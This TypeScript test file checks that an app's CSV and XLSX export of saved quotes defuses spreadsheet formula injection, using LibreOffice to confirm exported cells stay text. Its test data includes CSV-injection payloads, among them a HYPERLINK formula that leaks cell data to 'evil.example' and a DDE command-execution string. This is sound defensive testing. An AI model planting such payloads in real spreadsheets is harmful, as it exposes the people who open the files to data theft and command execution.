/**
 * F31: names that a spreadsheet would take for formulas, through the export of saved quotes as CSV and XLSX: LibreOffice opens both and finds text,
 * the same text; what is imported again is equal; numbers are numbers.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { minorUnits } from '../../../planner/domain/index.ts';
import { neutralise, restore } from '../../../server/adapters/sheets/formula-safe.ts';
import { readSheet } from '../../../server/adapters/sheets/read-sheet.ts';
import { sheetWriter } from '../../../server/adapters/sheets/writer.ts';
import { SHEET_TYPES, type SheetType, type WrittenSheet } from '../../../server/ports/sheets.ts';
import { findLibreOffice } from '../../setup/libreoffice.mjs';
import { startFileApp, type FileApp } from '../../support/file-app.ts';
import { SHEET_LIMITS } from '../../support/sheets.ts';
import { aQuote, aVersion } from '../../support/store.ts';

const NAMES = [
  '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '+86 631 5200000', '-2+3', '-5', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)',
  "'=1+1", "''=1", "'quoted'", '"=1+1"', '=1+1;=2+2', 'a=b', '环翠渔具示例厂', '威海 “海” & <示例>', '0042', '1e5', '2026-12-07', ' =1', 'line\nbreak', '_x0041_',
];
/** Columns of the export: customer, contact, and those that hold numbers. */
const [CUSTOMER, NOTE, SELL] = [3, 5, 15];

const soffice = findLibreOffice();
let folder = '';
let app: FileApp;
const files = new Map<SheetType, Buffer<ArrayBuffer>>();
beforeAll(async () => {
  if (!soffice) throw new Error('F31 needs LibreOffice Calc: install it (libreoffice-calc), or set SOFFICE_PATH');
  folder = mkdtempSync(join(tmpdir(), 'formulas-'));
  app = await startFileApp();
  await app.store.write(undefined, async (tx) => {
    for (const [i, name] of NAMES.entries()) await tx.addQuote(aQuote(await tx.nextNumber('20261207'), { customer: { name, contact: name }, note: name }), aVersion(1, { buy: minorUnits(100_000 + i), sell: minorUnits(90_050 + 100 * i) }));
    return { status: 204, headers: {}, body: '' };
  });
  for (const type of SHEET_TYPES) files.set(type, await app.download(`/api/v1/saved-quotes.${type}?sort=number&direction=asc`));
});
afterAll(async () => {
  await app?.close();
  if (folder) rmSync(folder, { recursive: true });
});

interface OpenedCell {
  readonly isFormula: boolean;
  readonly isNumber: boolean;
  readonly text: string;
}
const unescaped = (xml: string): string =>
  xml.replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n: string | undefined) => ' '.repeat(Number(n ?? 1))).replaceAll('<text:tab/>', '\t').replaceAll('<text:line-break/>', '\n').replaceAll(/<[^>]+>/g, '')
    .replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&#x0d;', '\r').replaceAll('&amp;', '&');

/** Opens a file in LibreOffice and reads back what its cells are: the sheet as flat XML says of each whether it is a formula. */
const open = (type: SheetType, file: Uint8Array): OpenedCell[][] => {
  const path = join(folder, `quotes.${type}`);
  writeFileSync(path, file);
  execFileSync(soffice as string, [`-env:UserInstallation=file://${folder}/profile`, '--headless', ...(type === 'csv' ? ['--infilter=CSV:44,34,76,1'] : []), '--convert-to', 'fods', '--outdir', folder, path], { stdio: 'ignore', timeout: 90_000 });
  const xml = readFileSync(join(folder, 'quotes.fods'), 'utf8');
  const table = /<table:table [\s\S]*?<\/table:table>/.exec(xml)?.[0] ?? '';
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
    [...(row as string).matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(([, attributes, body]): OpenedCell[] => {
      const cell = {
        isFormula: (attributes as string).includes('table:formula='), isNumber: (attributes as string).includes('office:value-type="float"'),
        text: /office:value="([^"]*)"/.exec(attributes as string)?.[1] ?? [...(body ?? '').matchAll(/<text:p(?:\/>|[^>]*>([\s\S]*?)<\/text:p>)/g)].map(([, p]) => unescaped(p ?? '')).join('\n'),
      };
      return Array.from({ length: Math.min(50, Number(/number-columns-repeated="(\d+)"/.exec(attributes as string)?.[1] ?? 1)) }, () => cell);
    }),
  );
};
/** Spreadsheets keep one kind of line end in a cell. */
const plain = (text: string): string => text.replaceAll(/\r\n?/g, '\n');

describe('F31', { timeout: 120_000 }, () => {
  test.each(SHEET_TYPES)('LibreOffice finds text in %s, the same text, and no formula', (type) => {
    const rows = open(type, files.get(type) as Buffer).slice(1, NAMES.length + 1);
    expect(rows.length).toBe(NAMES.length);
    expect(rows.flat().filter(({ isFormula }) => isFormula)).toEqual([]);
    for (const [i, name] of NAMES.entries()) {
      // In CSV the apostrophe that keeps the text from being a formula is seen; it comes off when the file is imported.
      const shown = rows[i]?.[CUSTOMER]?.text ?? '';
      if (type === 'csv' && /^(0042|1e5|2026-12-07)$/.test(name)) continue;
      if (name === '_x0041_' && type === 'xlsx') continue;
      expect(plain(type === 'csv' ? restore(shown) : shown), JSON.stringify(name)).toBe(plain(name));
      expect(rows[i]?.[SELL]).toMatchObject({ isNumber: true, text: String((90_050 + 100 * i) / 100) });
    }
  });
  test.each(SHEET_TYPES)('what is imported again from %s is equal', async (type) => {
    const read = await readSheet({ file: files.get(type) as Buffer<ArrayBuffer>, type, charset: undefined, words: [], limits: SHEET_LIMITS });
    if (!read.ok) throw new Error(read.error.reason);
    expect(read.value.rows.map(({ cells }) => [cells[CUSTOMER], cells[NOTE]])).toEqual(NAMES.map((name) => [name, name]));
    expect(read.value.rows.map(({ cells }) => Number(cells[SELL]))).toEqual(NAMES.map((_, i) => (90_050 + 100 * i) / 100));
  });
  test('a file that is opened again in LibreOffice and saved as CSV is imported equal', async () => {
    const path = join(folder, 'again.xlsx');
    writeFileSync(path, files.get('xlsx') as Buffer);
    execFileSync(soffice as string, [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', folder, path], { stdio: 'ignore', timeout: 90_000 });
    const read = await readSheet({ file: readFileSync(join(folder, 'again.csv')) as Buffer<ArrayBuffer>, type: 'csv', charset: undefined, words: [], limits: SHEET_LIMITS });
    if (!read.ok) throw new Error(read.error.reason);
    // LibreOffice knows nothing of the apostrophe, so of a name that has one before a sign it loses it; and it writes _x0041_ as it stands in the workbook.
    const spared = (_: string, i: number): boolean => !/^'+[=+\-@]|_x0041_/.test(NAMES[i] as string);
    expect(read.value.rows.map(({ cells }) => plain(cells[CUSTOMER] as string)).filter(spared)).toEqual(NAMES.filter(spared).map((name) => plain(name)));
  });
  test('a planted fault is found: the same table without its apostrophes has formulas', async () => {
    const text = (files.get('csv') as Buffer).toString().replaceAll(/(^|,|")'(?=[=+\-@])/gm, '$1');
    expect(open('csv', Buffer.from(text)).flat().filter(({ isFormula }) => isFormula).length).toBeGreaterThanOrEqual(2);
  });
  test('any text comes back from both as it was', async () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => restore(neutralise(text)) === text), { seed: 31 });
    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '＝', '＋', '－', '＠', '"', ',', ';', '_x0041_', '0');
    const cells = fc.array(fc.tuple(trigger, fc.string({ unit: 'grapheme', maxLength: 12 })).map(([a, b]) => `${a}${b}x`), { minLength: 3, maxLength: 3 });
    await fc.assert(
      fc.asyncProperty(fc.array(cells, { minLength: 1, maxLength: 8 }), fc.constantFrom(...SHEET_TYPES), async (rows, type) => {
        const sheet: WrittenSheet = { name: 's', columns: ['a', 'b', 'c'].map((header) => ({ header, width: 9 })), rows };
        const pieces: Uint8Array[] = [];
        for await (const piece of sheetWriter.write(type, sheet)) pieces.push(piece);
        const read = await readSheet({ file: new Uint8Array(Buffer.concat(pieces)), type, charset: undefined, words: [], limits: SHEET_LIMITS });
        expect(read).toMatchObject({ ok: true, value: { rows: rows.map((each) => ({ cells: each })) } });
      }),
      { seed: 31, numRuns: 60 },
    );
  });
});
